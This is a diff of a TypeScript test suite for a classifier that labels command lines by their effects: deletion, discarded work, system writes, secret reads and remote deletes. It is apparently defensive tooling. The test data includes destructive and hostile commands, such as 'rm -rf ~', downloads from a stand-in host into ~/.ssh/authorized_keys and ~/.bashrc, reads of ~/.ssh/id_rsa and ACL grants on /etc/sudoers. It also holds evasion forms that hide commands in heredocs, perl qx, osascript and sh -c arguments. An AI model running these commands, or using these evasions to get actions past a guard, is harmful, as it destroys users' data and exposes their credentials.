@@ -66,7 +66,7 @@ describe("effectsOf", () => {
   describe("moving onto /dev/null deletes; a download into a startup file or key plants it; a PATH into /tmp is planted", () => {
     it.each([
       ["mv ~/Documents /dev/null", ["move-away -r /home/user/Documents", "delete -r /home/user/Documents"]],
-      ["mv build.log /tmp/old.log", ["move-away -r build.log"]],
+      ["mv build.log /tmp/old.log", ["move-away -r build.log", "delete -r build.log"]],
       ["curl -o ~/.ssh/authorized_keys https://x.example/k", ["system-write /home/user/.ssh/authorized_keys"]],
       ["wget -O ~/.bashrc https://x.example/rc", ["system-write /home/user/.bashrc"]],
       ["curl -o vendor/jquery.min.js https://code.jquery.com/jquery.min.js", []],
@@ -299,6 +299,227 @@ describe("effectsOf", () => {
       ["node -e \"for(;;){console.log(1)}\"", []],
       ["python3 -c \"print('a\\nb')\"", []],
       ["node -e \"for (let i=0;i<3;i++) require('child_process').spawn('ls')\"", []],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("an unquoted heredoc runs the substitutions in its body; a quoted one is data", () => {
+    it.each([
+      ["git commit -F - <<EOF\nfix\n$(git reset --hard)\nEOF", ["discard-work ."]],
+      ["cat > msg.txt <<EOF\n`rm -rf ~/Music`\nEOF", ["delete -r /home/user/Music"]],
+      ["cat <<EOF\n$((1 + $(git clean -fdx)))\nEOF", ["discard-work ."]],
+      ["cat > msg.txt <<'EOF'\n`rm -rf ~/Music`\nEOF", []],
+      ["cat <<\"EOF\"\n$(rm -rf ~)\nEOF", []],
+      ["cat <<\\EOF\n$(rm -rf ~)\nEOF", []],
+      ["cat <<EOF\nprice: \\$(rm -rf ~)\nEOF", []],
+      ["git commit -F - <<EOF\nrelease $(git describe --tags)\nEOF", []],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("perl's qx and ruby's %x run a shell line with any delimiter; a fat comma or a format string does not", () => {
+    it.each([
+      ["perl -e 'qx(git reset --hard)'", ["discard-work ."]],
+      ["perl -e 'qx[git reset --hard]'", ["discard-work ."]],
+      ["perl -e 'qx!git reset --hard!'", ["discard-work ."]],
+      ["perl -e 'my $o = qx {git clean -fdx};'", ["discard-work ."]],
+      ["ruby -e 'puts %x[rm -rf ~/Music]'", ["delete -r /home/user/Music"]],
+      ["perl -e 'my %o = (qx => 2); print 1'", []],
+      ["perl -e 'printf(\"%x-%x\", 1, 2)'", []],
+      ["perl -e 'print qx{uname -a}'", []],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("perl and ruby calls without parentheses, and File::Path's lists, are read like the parenthesised ones", () => {
+    it.each([
+      ["perl -e \"system 'rm', '-rf', '/home/user';\"", ["delete -r /home/user"]],
+      ["ruby -e 'system \"git reset --hard\"'", ["discard-work ."]],
+      ["perl -e \"use File::Path; rmtree('/tmp/x', '/home/user')\"", ["delete -r /home/user", "delete -r /tmp/x"]],
+      ["perl -e \"use File::Path; rmtree(['/srv/a', '/srv/b'])\"", ["delete -r /srv/a", "delete -r /srv/b"]],
+      ["perl -e \"system 'ls', '-la';\"", []],
+      ["perl -e \"use File::Path; rmtree('./build')\"", ["delete -r ./build"]],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("exec as a regular expression's or a PHP object's method runs nothing", () => {
+    it.each([
+      ["node -e 'const m = /y/.exec(\"git push --force\")'", []],
+      ["php -r '$db->exec(\"rm -rf /\");'", []],
+      ["node -e 'require(\"child_process\").exec(\"git reset --hard\")'", ["discard-work ."]],
+      ["php -r 'exec(\"git reset --hard\");'", ["discard-work ."]],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("AppleScript's do shell script in any case and spacing, and every -e of perl, ruby and osascript", () => {
+    it.each([
+      ["osascript -e 'DO SHELL SCRIPT \"git clean -fdx\"'", ["discard-work ."]],
+      ["osascript -e 'do  shell  script \"rm -rf ~/Pictures\"'", ["delete -r /home/user/Pictures"]],
+      ["osascript -e 'display dialog \"x\"' -e 'do shell script \"rm -rf ~/Music\"'", ["delete -r /home/user/Music"]],
+      ["perl -e 'print 1;' -e 'system(\"git reset --hard\")'", ["discard-work ."]],
+      ["osascript -e 'display notification \"done\"' -e 'beep'", []],
+      ["perl -ne 'print' notes.txt", []],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("a recursive ACL change walks its targets like chmod -R; the ACL spec is no path", () => {
+    it.each([
+      ["setfacl -R -m u:deploy:rwx /etc", ["permissions -r unsafe-mode /etc"]],
+      ["setfacl -Rm u:x:rwx ~", ["permissions -r /home/user"]],
+      ["setfacl -m o::rwx /etc/sudoers", ["permissions unsafe-mode /etc/sudoers"]],
+      ["setfacl -R -m u:deploy:rwX ./public", ["permissions -r ./public"]],
+      ["setfacl -m u:www-data:rx ./public", []],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("a tree moved into a temp directory is deleted with a delay; the rules judge where it came from", () => {
+    it.each([
+      ["mv ~/Documents /tmp/trash", ["move-away -r /home/user/Documents", "delete -r /home/user/Documents"]],
+      ["mv ~/Projects /var/tmp/", ["move-away -r /home/user/Projects", "delete -r /home/user/Projects"]],
+      ["mv ~/Documents ~/Archive/", ["move-away -r /home/user/Documents"]],
+      ["mv -t /tmp ./a", ["move-away -r ./a"]],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("awk comments that open a line, and xargs fed /dev/null, run nothing", () => {
+    it.each([
+      ["awk 'BEGIN{print 1;\n# system(\"rm -rf ~\")\n}'", []],
+      ["awk '/x#/ { system(\"rm -rf ~/Music\") }' notes.txt", ["delete -r /home/user/Music"]],
+      ["xargs -0 rm -rf < /dev/null", []],
+      ["xargs rm -rf < dirs.txt", ["delete -r $(xargs input)"]],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("a PowerShell parameter bound with a colon (-Path:C:\\x) is that parameter", () => {
+    it.each([
+      ["Remove-Item -Recurse -Force -Path:C:\\Users\\user", ["delete -r /home/user"]],
+      ["Remove-Item -Recurse -Force -LiteralPath:\"C:\\Users\\user\\Documents\"", ["delete -r /home/user/Documents"]],
+      ["Remove-Item -Recurse -Force -Path:C:\\Users\\user\\project\\build", ["delete -r /home/user/project/build"]],
+      ["Write-Output '-Recurse'", []],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(psKinds(line)).toEqual(expected);
+    });
+  });
+  describe("a service CLI's destroying verb deletes data where the service keeps it; its list, read and dry-run forms do not", () => {
+    it.each([
+      ["vault kv destroy -versions=2 secret/app/db", ["remote-delete"]],
+      ["vault secrets disable kv-old/", ["remote-delete"]],
+      ["vault kv list secret/", []],
+      ["restic -r /srv/restic forget --keep-last 2 --prune", ["remote-delete"]],
+      ["restic forget --keep-last 2 --prune --dry-run", []],
+      ["restic snapshots", []],
+      ["borg delete /mnt/backup::host-1", ["remote-delete"]],
+      ["borg prune -n --keep-daily 3 /mnt/backup", []],
+      ["nats stream rm ORDERS -f", ["remote-delete"]],
+      ["nats stream info ORDERS", []],
+      ["rabbitmqctl delete_vhost /billing", ["remote-delete"]],
+      ["rabbitmqctl list_queues", []],
+      ["kafka-topics --bootstrap-server b:9092 --delete --topic t", ["remote-delete"]],
+      ["kafka-topics --bootstrap-server b:9092 --list", []],
+      ["java -jar jenkins-cli.jar -s https://ci/ delete-job x", ["remote-delete"]],
+      ["java -jar app.jar delete-job x", []],
+      ["gh secret delete NPM_TOKEN", ["remote-delete"]],
+      ["gh extension remove gh-dash", []],
+      ["aws sqs purge-queue --queue-url https://sqs.x/q", ["remote-delete"]],
+      ["aws secretsmanager delete-secret --secret-id prod/api", ["remote-delete"]],
+      ["aws sqs list-queues", []],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("an HTTP DELETE, or a deleting endpoint, deletes in the service; a developer's own server on this machine runs", () => {
+    it.each([
+      ["curl -X DELETE https://api.example.com/v1/projects/7", ["remote-delete"]],
+      ["curl -XDELETE 'http://es.internal:9200/_all'", ["remote-delete"]],
+      ["curl --request=DELETE http://localhost:9200/logs-2024", ["remote-delete"]],
+      ["curl -X POST 'http://localhost:9200/ev/_delete_by_query' -d '{}'", ["remote-delete"]],
+      ["curl -X DELETE http://127.0.0.1:3000/indexes/products", ["remote-delete"]],
+      ["wget --method=DELETE https://api.example.com/x", ["remote-delete"]],
+      ["http DELETE https://api.example.com/x", ["remote-delete"]],
+      ["curl -X DELETE http://localhost:8080/api/items/1", []],
+      ["curl -X GET http://localhost:9200/_cat/indices", []],
+      ["curl -s https://api.example.com/v1/projects/7", []],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("a copy, rename or write in interpreter code is read as the shell command doing the same; one inside a string is data", () => {
+    it.each([
+      ["node -e \"require('fs').copyFileSync('rc.txt', require('os').homedir() + '/.bashrc')\"", ["system-write /home/user/.bashrc"]],
+      ["ruby -e \"File.rename('staged', File.join(Dir.home, '.bashrc'))\"", ["move-away -r staged", "system-write /home/user/.bashrc"]],
+      ["python3 -c \"open('/home/user/.bashrc', 'w').write('')\"", ["system-write /home/user/.bashrc", "truncate /home/user/.bashrc"]],
+      ["python3 -c \"import shutil; shutil.copytree('backup', '/etc', dirs_exist_ok=True)\"", ["system-write /etc"]],
+      ["python3 -c \"import shutil; shutil.copyfile('README.md', 'docs/README.md')\"", []],
+      ["python3 -c \"open('out.txt', 'w').write('x')\"", []],
+      ["node -e \"require('fs').appendFileSync('/home/user/.ssh/known_hosts', 'h')\"", []],
+      ["python3 -c \"print(\\\"os.replace('staged', '~/.bashrc')\\\")\"", []],
+      ["ruby -e \"puts %q(File.rename('a', '/home/user/.bashrc'))\"", []],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("a tree copied over a system directory, or its content over the home, replaces files there", () => {
+    it.each([
+      ["cp -r backup/. /etc", ["system-write /etc"]],
+      ["cp -r ./etc-template/* /etc/", ["system-write /etc/"]],
+      ["rsync -a dotfiles/ ~", ["system-write /home/user"]],
+      ["rsync -an dotfiles/ ~", []],
+      ["cp -r notes ~", []],
+      ["cp -a ./site/. /tmp/x", []],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("inline code is no file name; the secrets it names in strings are read from its strings", () => {
+    it.each([
+      ["python3 -c \"open('/home/user/.ssh/known_hosts').read()\"", []],
+      ["python3 -c \"print(open('/home/user/.ssh/id_rsa').read())\"", ["secret-read /home/user/.ssh/id_rsa"]],
+      ["perl -ne print .env", ["secret-read .env"]],
+      ["python3 script.py ~/.ssh/id_rsa", ["secret-read /home/user/.ssh/id_rsa"]],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("a shell told -n (noexec) reads its commands and runs none; ssh with no command runs its stdin remotely", () => {
+    it.each([
+      ["cat <<'EOF' | bash -n\nrm -rf ~\nEOF", []],
+      ["bash -n -c 'rm -rf ~'", []],
+      ["sh -o noexec -c 'git reset --hard'", []],
+      ["cat <<'EOF' | bash\nrm -rf ~\nEOF", ["delete -r /home/user"]],
+      ["ssh deploy@web1 <<'EOF'\nrm -rf /srv/app\nEOF", ["delete -r /srv/app"]],
+      ["ssh deploy@web1 <<'EOF'\nuptime\nEOF", []],
+      ["ssh -N -L 8080:localhost:80 host", []],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("deleting a machine-wide registry key changes the system; the user's own hive is the user's", () => {
+    it.each([
+      ["reg delete HKLM\\Software\\Acme /f", ["system-write HKLM/Software/Acme"]],
+      ["Remove-Item -Path HKLM:\\Software\\Acme -Recurse", ["delete -r HKLM:/Software/Acme", "system-write HKLM:/Software/Acme"]],
+      ["Remove-Item -Path HKCU:\\Software\\Acme\\Cache -Recurse", ["delete -r HKCU:/Software/Acme/Cache"]],
+      ["reg query HKLM\\Software\\Acme", []],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(psKinds(line)).toEqual(expected);
+    });
+  });
+  describe("sh -c SCRIPT NAME ARGS binds $0, $1.. and \"$@\"; trap -- ACTION runs ACTION", () => {
+    it.each([
+      ["bash -c '\"$@\"' sh rm -rf ~/Documents", ["delete -r /home/user/Documents"]],
+      ["bash -c '$* ' sh git reset --hard", ["discard-work ."]],
+      ["sh -c '\"$0\" -rf ~/Videos' rm", ["delete -r /home/user/Videos"]],
+      ["bash -c 'rm -rf \"$1\"' sh ~/Pictures", ["delete -r /home/user/Pictures"]],
+      ["bash -c 'rm -rf \"$1\"' sh ./build", ["delete -r ./build"]],
+      ["bash -c 'rm -rf \"$1\"' sh \"$X\"", ["delete -r $1"]],
+      ["trap -- 'git clean -fdx' EXIT", ["discard-work ."]],
+      ["trap -p EXIT", []],
+      ["trap -l", []],
     ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
       expect(kinds(line)).toEqual(expected);
     });
